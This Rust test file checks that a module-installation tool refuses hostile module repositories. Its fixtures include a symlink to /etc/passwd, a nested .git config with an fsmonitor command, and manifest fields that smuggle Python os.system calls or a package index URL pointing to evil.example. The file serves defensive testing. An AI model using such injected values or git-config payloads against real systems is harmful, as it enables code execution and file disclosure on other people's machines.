//! Hostile module trees are rejected before anything is written.

use std::path::{Path, PathBuf};

use crate::common::fixtures::{commit_to, module_files, module_repo};
use crate::common::{TestEnv, assert_same_repo, describe, stderr};

/// A module repository `evil` whose main branch gets `tree` as a new commit.
fn repo_with_tree(env: &TestEnv, make_tree: impl FnOnce(&Path) -> String) -> PathBuf {
    let repo = module_repo(env, "evil");
    let tree = make_tree(&repo);
    let commit = env
        .git(
            &repo,
            &["commit-tree", &tree, "-p", "HEAD", "-m", "hostile"],
        )
        .trim()
        .to_owned();
    env.git(&repo, &["update-ref", "refs/heads/main", &commit]);
    repo
}

/// `git mktree` from lines added to the module's normal root tree.
fn tree_plus(env: &TestEnv, repo: &Path, extra: &[String]) -> String {
    let mut lines = env.git(repo, &["ls-tree", "HEAD"]);
    for e in extra {
        lines.push_str(e);
        lines.push('\n');
    }
    mktree(env, repo, &lines)
}

/// `git mktree` from `ls-tree`-style lines.
fn mktree(env: &TestEnv, repo: &Path, lines: &str) -> String {
    let mut cmd = std::process::Command::new("git");
    env.env(&mut cmd);
    let mut child = cmd
        .current_dir(repo)
        .args(["mktree"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("mktree");
    use std::io::Write;
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(lines.as_bytes())
        .expect("write");
    let out = child.wait_with_output().expect("mktree output");
    assert!(out.status.success(), "{}", describe(&out));
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

fn blob(env: &TestEnv, repo: &Path, text: &str) -> String {
    let path = repo.join(".tmp-blob");
    std::fs::write(&path, text).expect("write");
    let id = env
        .git(repo, &["hash-object", "-w", ".tmp-blob"])
        .trim()
        .to_owned();
    std::fs::remove_file(path).expect("rm");
    id
}

fn assert_rejected(env: &TestEnv, repo: &Path, expect: &str, git_config: &[(&str, &str)]) {
    let dir = env.root().join("shop");
    if !dir.exists() {
        env.new_project(&[]);
    }
    for (k, v) in git_config {
        env.git(&dir, &["config", k, v]);
    }
    env.qs_ok(
        &dir,
        &[
            "plan",
            "--add",
            "evil",
            "--source",
            &format!("evil={}", repo.display()),
            "--yes",
        ],
    );
    let snap = env.repo_snapshot(&dir);
    let out = env.qs(&dir, &["apply", "--yes"]);
    assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
    assert!(
        stderr(&out).contains(expect),
        "expected `{expect}`:\n{}",
        describe(&out)
    );
    assert_same_repo(&snap, &env.repo_snapshot(&dir), expect);
    assert!(!dir.join("modules/evil").exists());
}

#[test]
fn symlink_pointing_outside_the_prefix() {
    let env = TestEnv::new();
    let repo = module_repo(&env, "evil");
    std::os::unix::fs::symlink("../../../../etc/passwd", repo.join("passwords")).expect("symlink");
    env.git(&repo, &["add", "-A"]);
    env.git(&repo, &["commit", "-qm", "symlink"]);
    assert_rejected(
        &env,
        &repo,
        "module evil: the symlink `passwords` points outside the module (to `../../../../etc/passwd`)",
        &[],
    );
}

#[test]
fn a_dot_git_entry() {
    let env = TestEnv::new();
    let repo = repo_with_tree(&env, |repo| {
        let config = blob(&env, repo, "[core]\n\tfsmonitor = touch /tmp/pwned\n");
        let sub = mktree(&env, repo, &format!("100644 blob {config}\tconfig\n"));
        tree_plus(&env, repo, &[format!("040000 tree {sub}\t.git")])
    });
    assert_rejected(
        &env,
        &repo,
        "module evil: its tree contains a `.git` entry at `.git`",
        &[],
    );
}

#[test]
fn a_path_that_is_not_utf8() {
    use std::os::unix::ffi::OsStrExt;
    let env = TestEnv::new();
    let repo = module_repo(&env, "evil");
    std::fs::write(repo.join(std::ffi::OsStr::from_bytes(b"bad\xffname")), "x").expect("write");
    env.git(&repo, &["add", "-A"]);
    env.git(&repo, &["commit", "-qm", "non-utf8"]);
    assert_rejected(
        &env,
        &repo,
        "module evil: a path under `.` is not valid UTF-8",
        &[],
    );
}

#[test]
fn an_absurdly_long_path() {
    let env = TestEnv::new();
    let repo = repo_with_tree(&env, |repo| {
        let b = blob(&env, repo, "x");
        tree_plus(
            &env,
            repo,
            &[format!("100644 blob {b}\t{}", "n".repeat(300))],
        )
    });
    assert_rejected(
        &env,
        &repo,
        "is too long (300 bytes; the limit is 255)",
        &[],
    );
}

#[test]
fn a_gitlink() {
    let env = TestEnv::new();
    let repo = repo_with_tree(&env, |repo| {
        let head = env.git(repo, &["rev-parse", "HEAD"]).trim().to_owned();
        tree_plus(&env, repo, &[format!("160000 commit {head}\tvendored")])
    });
    assert_rejected(
        &env,
        &repo,
        "module evil: it contains a submodule (gitlink) at `vendored`",
        &[],
    );
}

#[test]
fn a_module_over_the_configured_size() {
    let env = TestEnv::new();
    let repo = module_repo(&env, "evil");
    commit_to(
        &env,
        &repo,
        &[("big.bin".into(), "x".repeat(50_000))],
        "big",
    );
    assert_rejected(
        &env,
        &repo,
        "module evil: it is larger than the limit (more than 20000 bytes)",
        &[("quickscale.maxModuleBytes", "20000")],
    );
}

#[test]
fn manifest_fields_that_would_inject_code() {
    let cases = [
        (
            "django_apps: [quickscale_modules_evil]",
            "django_apps: [\"x\\\"]; import os; os.system(\\\"id\\\") #\"]",
            "django_apps",
        ),
        (
            "dependencies: []",
            "dependencies: [\"--index-url=http://evil.example/simple\"]",
            "dependencies",
        ),
        (
            "    include: quickscale_modules_evil.urls",
            "    include: \"os.system('id')\"",
            "urls: include",
        ),
        (
            "django_setting: EVIL_GREETING",
            "django_setting: \"EVIL_GREETING = 1; import os\"",
            "django_setting",
        ),
    ];
    for (from, to, expect) in cases {
        let env = TestEnv::new();
        let repo = module_repo(&env, "evil");
        let manifest = module_files("evil", "2.0.0")
            .into_iter()
            .find(|(p, _)| p == "module.yml")
            .map(|(_, t)| t)
            .expect("manifest");
        assert!(manifest.contains(from), "{from}");
        commit_to(
            &env,
            &repo,
            &[("module.yml".into(), manifest.replace(from, to))],
            "inject",
        );
        assert_rejected(&env, &repo, expect, &[]);
    }
}
